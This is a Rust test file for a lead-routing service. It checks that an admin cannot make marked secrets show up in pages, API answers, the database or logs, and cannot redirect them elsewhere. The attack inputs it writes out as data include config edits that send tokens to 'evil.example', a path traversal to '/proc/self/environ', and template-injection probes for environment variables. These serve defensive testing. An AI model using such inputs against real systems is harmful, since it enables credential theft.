//! Somebody who may edit wants the secrets: a workspace full of marked ones, and no mark on any page, in any answer of the API, in
//! the audit log, in the log of the server, or at a stranger's.

use std::collections::{BTreeMap, BTreeSet};
use std::sync::Arc;

use leadfold::access::Role;
use leadfold::sandbox::Faults;
use serde_json::{Value, json};

use super::{Browser, PASSWORD, TOKEN, add_user, token_of};
use crate::kill::server::Home;
use crate::rig::{IMPATIENT, MAPPING, Rig, event, now_millis};

/// What no answer may hold: every secret has it in it.
const MARK: &str = "mark5ecret";

/// Written out in the files, where somebody may do that.
fn workspace(crm: &str) -> String {
    format!(
        "destinations:\n  crm: {{ crm: sandbox, url: \"{crm}\", token: \"${{CRM_TOKEN:-demo}}\", {IMPATIENT} }}\n\
         \x20 hook:\n    bot: webhook\n    hosts: [\"{crm}\"]\n    auth: {{ bearer: \"{MARK}-bearer\" }}\n\
         \x20 tg: {{ bot: telegram, token: \"${{TG_TOKEN}}\" }}\n\
         alerts:\n  webhook: \"{crm}/hooks/{MARK}\"\nowner_pools:\n  sales: [anna]\n"
    )
}

async fn prepared() -> Rig {
    let mut rig = Rig::prepare(Faults::default(), IMPATIENT, MAPPING).await;
    rig.files.0.insert("workspace.yaml".to_owned(), workspace(&rig.sandbox.url()));
    let mapping = MAPPING.replace("token: demo }", &format!("token: {MARK}-hook }}"));
    rig.files.0.insert("written.yaml".to_owned(), mapping);
    rig.environment = Arc::new(|name| match name {
        "CRM_TOKEN" => Some("demo".to_owned()),
        "TG_TOKEN" => Some(format!("123456:{MARK}-telegram-bot-token-of-35-letters")),
        "LEADFOLD_API_TOKEN" => Some(TOKEN.to_owned()),
        "DATABASE_URL" => Some(format!("postgres://{MARK}@db")),
        _ => None,
    });
    rig.token = Some(TOKEN);
    rig.boot().await;
    rig
}

/// All local addresses that a page leads to.
fn links(page: &str) -> Vec<String> {
    let found = ["href=\"", "action=\""].iter().flat_map(|mark| page.split(mark).skip(1));
    let found = found.filter_map(|part| part.split('"').next()).filter(|link| link.starts_with('/'));
    found.map(|link| link.replace("&amp;", "&").split('#').next().unwrap().to_owned()).collect()
}

/// Every page that can be reached, with what each of them says.
async fn pages(browser: &Browser) -> BTreeMap<String, String> {
    let (mut read, mut waiting) = (BTreeMap::new(), BTreeSet::from(["/".to_owned()]));
    while let Some(path) = waiting.pop_first() {
        if path.starts_with("/assets")
            || path.starts_with("/live")
            || read.contains_key(&path)
            || read.len() > 150
        {
            continue;
        }
        let page = browser.get(&path).await;
        waiting.extend(links(&page.text));
        read.insert(path, page.text);
    }
    assert!(read.len() > 15, "{:?}", read.keys());
    read
}

async fn api(rig: &Rig, token: &str, path: &str, body: &Value) -> (u16, String) {
    let header = format!("Bearer {token}");
    let browser = Browser::new(rig);
    let page = browser.post_with_body(path, &[("authorization", &*header)], body.to_string()).await;
    (page.status, page.text)
}

#[tokio::test(flavor = "multi_thread")]
async fn no_page_and_no_answer_has_a_secret_in_it() {
    let rig = prepared().await;
    for (number, source) in
        ["/in/sendpulse/demo".to_owned(), format!("/in/written/{MARK}-hook")].iter().enumerate()
    {
        let lead = event(
            &format!("chat{number}"),
            "telegram",
            json!({ "phone": format!("06712345{number}0") }),
            now_millis(),
        );
        assert_eq!(rig.post_to(source, lead.to_string()).await.0, 200);
    }
    rig.settle().await;
    add_user(&rig, "olena", Role::Admin).await;
    let admin = Browser::of(&rig, Role::Admin).await;
    for (path, text) in pages(&admin).await {
        assert!(!text.contains(MARK), "{path}: {text}");
    }
    let (_, mappings) = rig.post_to_api("/api/mappings", &json!({ "file": "workspace.yaml" })).await;
    let version = mappings["version"].as_str().unwrap().to_owned();
    let shown = mappings["text"].as_str().unwrap().to_owned();
    assert!(shown.contains("••••••") && shown.contains("${TG_TOKEN}"), "{shown}");
    let (_, mappings) = rig.post_to_api("/api/mappings", &json!({ "file": "written.yaml" })).await;
    let written = mappings["text"].as_str().unwrap().to_owned();
    let edit = |file: &str, text: &str| json!({ "of": version, "files": { file: text } });
    // Where somebody would like to see it.
    let edits = [
        edit("written.yaml", &written.replace("leads:", "leads: # ••••••")),
        edit("written.yaml", &format!("{written}\nsource: {{ preset: json, token: \"••••••\" }}\n")),
        edit("written.yaml", &written.replace("token:", "token: ••••••, token:")),
        edit("written.yaml", &written.replace("token:", "secret: ••••••, token:")),
        edit(
            "written.yaml",
            &written.replace("preset: sendpulse", "preset: telegram, secret: \"${DATABASE_URL}\""),
        ),
        edit(
            "written.yaml",
            &written.replace("preset: sendpulse", "preset: esputnik, secret: \"${LEADFOLD_API_TOKEN}\""),
        ),
        edit("written.yaml", &written.replace("\"{{ contact.name }}\"", "\"${DATABASE_URL}\"")),
        edit(
            "written.yaml",
            &written.replace(
                "\"{{ contact.name }}\"",
                "\"{{ env.DATABASE_URL }} {{ vars }} {{ source }} {{ headers }} {{ debug() }}\"",
            ),
        ),
        edit("written.yaml", &written.replace("token: \"••••••\"", "token: \"${TG_TOKEN}\"")),
        edit(
            "written.yaml",
            &written.replace("token: \"••••••\"", "token: \"${TG_TOKEN:-${DATABASE_URL}}\""),
        ),
        edit(
            "written.yaml",
            &format!("{written}tests:\n  - {{ name: x, given: ../../proc/self/environ, expect: {{}} }}\n"),
        ),
        edit(
            "written.yaml",
            &format!("{written}tests:\n  - {{ name: x, given: workspace.yaml, expect: {{}} }}\n"),
        ),
        edit("copy.yaml", &written),
        edit("../copy.yaml", &written),
        edit("workspace.yaml", &shown.replace("hosts:", "hosts: [evil.example] #")),
        edit(
            "workspace.yaml",
            &shown.replace(
                "alerts:",
                "alerts:\n  telegram: { token: \"${TG_TOKEN}\", chat: 1, url: \"http://evil.example\" } #",
            ),
        ),
        edit(
            "workspace.yaml",
            &shown.replace("owner_pools:", "vars: { x: \"${TG_TOKEN}\", y: \"••••••\" }\nowner_pools:"),
        ),
        edit("workspace.yaml", &shown.replace("${TG_TOKEN}", "${TG_TOKEN} ")),
        edit("workspace.yaml", &shown.replace("timeout:", "url: http://evil.example/${TG_TOKEN}, timeout:")),
        edit("workspace.yaml", "destinations: *all\n"),
        edit("workspace.yaml", ""),
        json!({ "of": version, "files": { "written.yaml": null } }),
        json!({ "of": version, "files": { "workspace.yaml": null } }),
    ];
    let token = token_of(&rig, Role::Admin).await;
    let mut answers = 0;
    for edit in &edits {
        // Most of these could be used, so they are not: what is no secret's may be written by an admin.
        let guarded = edit["files"].get("workspace.yaml").is_some();
        let save = guarded.then_some("save");
        for path in ["check", "patch", "rehearse"].into_iter().chain(save) {
            let mut body = json!({ "edit": edit });
            match path {
                "check" => body["accounts"] = json!(true),
                "rehearse" => body["last"] = json!(100),
                _ => {}
            }
            let (status, text) = api(&rig, &token, &format!("/api/mappings/{path}"), &body).await;
            assert!(!text.contains(MARK), "{path} {edit}: {status} {text}");
            assert!(!text.contains(TOKEN), "{path} {edit}: {status} {text}");
            assert!(path != "save" || status == 422, "{edit}: {status} {text}");
            answers += usize::from(status == 200);
        }
        for (file, text) in edit["files"].as_object().unwrap() {
            for action in ["check", "rehearse", "patch"].into_iter().chain(save) {
                let text = text.as_str().unwrap_or_default();
                admin.get("/access").await;
                let fields = [("of", &*version), ("text", text), ("action", action), ("last", "100")];
                let page = admin.post(&format!("/mappings/{file}/edit"), &fields).await;
                page.says_nothing_of(MARK);
            }
        }
    }
    assert!(answers >= edits.len(), "checks must have been made: {answers}");
    for (path, body) in [
        ("/api/versions/active", json!({})),
        ("/api/versions/list", json!({})),
        ("/api/versions/compare", json!({ "old": version, "new": version })),
        ("/api/mappings/names", json!({ "accounts": true })),
        ("/api/mappings/arrived", json!({ "source": "written" })),
        ("/api/mappings/address", json!({ "source": "written" })),
        (
            "/api/mappings/draft",
            json!({ "draft": { "name": "written", "preset": "sendpulse", "to": ["crm"], "picks": { "name": "x" } } }),
        ),
        ("/api/destinations", json!({})),
        ("/api/attention", json!({})),
        ("/api/overview", json!({})),
        ("/api/actions", json!({})),
        ("/api/users", json!({})),
    ] {
        let (status, text) = api(&rig, &token, path, &body).await;
        assert!(matches!(status, 200 | 400 | 422) && !text.contains(MARK), "{path}: {status} {text}");
        assert!(!text.contains(PASSWORD), "{path}");
    }
    for path in ["/api/openapi.json", "/api/deliveries", "/api/leads", "/metrics"] {
        assert!(!rig.get(path).await.1.contains(MARK), "{path}");
    }
    for table in ["actions", "syncs", "leads", "sessions", "users", "access_tokens"] {
        for row in rig.sql(&format!("SELECT * FROM {table}")).await {
            assert!(!row.iter().any(|value| value.contains(MARK)), "{table}: {row:?}");
        }
    }
    rig.end().await;
}

/// Whoever was made an admin makes themselves a token, and goes by the way of `leadfold apply`.
#[tokio::test(flavor = "multi_thread")]
async fn an_admin_sends_no_secret_elsewhere_by_applying() {
    let rig = prepared().await;
    let token = token_of(&rig, Role::Admin).await;
    let active = |text: &str| serde_json::from_str::<Value>(text).unwrap();
    let (status, text) = api(&rig, &token, "/api/versions/active", &json!({})).await;
    assert!(status == 200 && !text.contains(MARK), "{text}");
    let seen = active(&text);
    assert!(seen["files"]["workspace.yaml"].as_str().unwrap().contains("••••••"));
    // Whoever started leadfold has them anyway.
    let (_, text) = api(&rig, TOKEN, "/api/versions/active", &json!({})).await;
    assert!(text.contains(MARK));
    let files = active(&text)["files"].clone();
    let version = &seen["version"];
    let apply = async |token: &str, from: &str, to: &str| {
        let mut files = files.clone();
        let text = files["workspace.yaml"].as_str().unwrap().replace(from, to);
        assert_ne!(text, files["workspace.yaml"].as_str().unwrap(), "{from}");
        files["workspace.yaml"] = json!(text);
        let body = json!({ "files": files, "instead_of": version, "with_secrets": true });
        api(&rig, token, "/api/versions", &body).await
    };
    for (from, to) in [
        (
            "  tg:",
            "  evil: { bot: webhook, hosts: [evil.example], auth: { bearer: \"${DATABASE_URL}\" } }\n  tg:",
        ),
        ("hosts: [", "hosts: [evil.example, "),
        (
            "alerts:",
            "alerts:\n  telegram: { token: \"${TG_TOKEN}\", chat: \"1\", url: \"http://127.0.0.1:9\" }",
        ),
        ("/hooks/", "/evil/"),
    ] {
        let (status, text) = apply(&token, from, to).await;
        assert_eq!(status, 422, "{from}: {text}");
        assert!(text.contains("changes where secrets are sent") && !text.contains(MARK), "{text}");
    }
    let body = json!({ "files": seen["files"], "instead_of": version, "with_secrets": true });
    let (status, text) = api(&rig, &token, "/api/versions", &body).await;
    assert_eq!(status, 422, "what is hidden is no secret to apply: {text}");
    // What has nothing to do with secrets is an admin's to apply, and whoever started it may everything.
    let (status, text) = apply(&token, "sales: [anna]", "sales: [anna, borys]").await;
    assert_eq!(status, 200, "{text}");
    let (status, text) = api(&rig, "wrong", "/api/versions/active", &json!({})).await;
    assert_eq!(status, 401, "{text}");
    rig.end().await;
}

/// The log of a process is read by more people than its environment.
#[tokio::test(flavor = "multi_thread")]
async fn the_log_has_no_secret_in_it() {
    let rig = prepared().await;
    let workspace = rig.files.0["workspace.yaml"]
        .replace("${TG_TOKEN}", &format!("123456:{MARK}-telegram-bot-token-of-35-letters"));
    let home = Home::of(&workspace);
    let server = home.start().await;
    let browser = Browser::at(format!("http://{}", server.address));
    let (name, password) = ("olena", "mark5ecret horse battery");
    home.ask(
        server.address,
        "/api/users/add",
        &json!({ "name": name, "role": "admin", "password": password }),
    )
    .await;
    browser.sign_in(name, "mark5ecret guess").await.is(401);
    browser.sign_in("mark5ecret", password).await.is(401);
    browser.post("/sign-in", &[("token", "mark5ecret token")]).await.is(401);
    browser.sign_in(name, password).await.is(303);
    let session = browser.cookies()["leadfold_session"].clone();
    pages(&browser).await;
    browser.get(&format!("/nothing/{session}")).await;
    let (_, mappings) = home.ask(server.address, "/api/mappings", &json!({ "file": "workspace.yaml" })).await;
    let mappings: Value = serde_json::from_str(&mappings).unwrap();
    let text = mappings["text"].as_str().unwrap().replace("hosts:", "hosts: [evil.example] #");
    browser.get("/access").await;
    let of = mappings["version"].as_str().unwrap();
    for action in ["check", "patch", "rehearse", "save"] {
        browser
            .post(
                "/mappings/workspace.yaml/edit",
                &[("of", of), ("text", &text), ("action", action), ("last", "100")],
            )
            .await;
    }
    home.write("workspace.yaml", &workspace.replace("bot: webhook", "bot: nothing"));
    server.look_again();
    browser.get("/mappings").await;
    server.kill();
    assert!(home.logged("leadfold") + home.logged("signed in") > 0, "{}", home.log());
    for secret in [MARK, &session, "s3cret"] {
        assert_eq!(home.logged(secret), 0, "{secret}: {}", home.log());
    }
    home.remove();
    rig.end().await;
}
